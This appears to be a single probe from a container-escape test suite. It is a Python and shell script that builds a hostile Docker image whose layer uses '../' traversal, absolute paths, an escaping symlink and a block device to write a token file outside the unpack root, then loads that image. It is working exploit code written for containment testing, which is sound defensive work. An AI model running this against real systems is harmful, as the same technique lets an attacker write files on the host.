# Category: a hostile image or name
# Escape: an image whose layers climb, link and carry devices writes outside, by the hand of the engine that unpacks it.
# Sign: file
# Control: planted
python3 - <<'PYTHON'
import hashlib, io, json, os, tarfile
token, folder = os.environ["TOKEN"], os.path.dirname(os.environ["FILE"])
layer = io.BytesIO()
with tarfile.open(fileobj=layer, mode="w") as tar:
    def add(name, kind=tarfile.REGTYPE, link=""):
        entry = tarfile.TarInfo(name); entry.type, entry.linkname, entry.devmajor, entry.devminor = kind, link, 8, 0
        tar.addfile(entry, io.BytesIO(b""))
    add("../../../../../../../.." + folder + "/" + token)
    add(folder + "/" + token)
    add("way", tarfile.SYMTYPE, "/../../../../../.." + folder); add("way/" + token)
    add("disk", tarfile.BLKTYPE)
config = json.dumps({"architecture": "amd64", "os": "linux", "rootfs": {"type": "layers", "diff_ids": ["sha256:" + hashlib.sha256(layer.getvalue()).hexdigest()]}}).encode()
with tarfile.open(f"/root/{token}.tar", "w") as tar:
    for name, data in (("layer.tar", layer.getvalue()), ("config.json", config), ("manifest.json", json.dumps([{"Config": "config.json", "RepoTags": ["hostile:1"], "Layers": ["layer.tar"]}]).encode())):
        entry = tarfile.TarInfo(name); entry.size = len(data); tar.addfile(entry, io.BytesIO(data))
PYTHON
docker load --input "/root/$TOKEN.tar"; rm "/root/$TOKEN.tar"
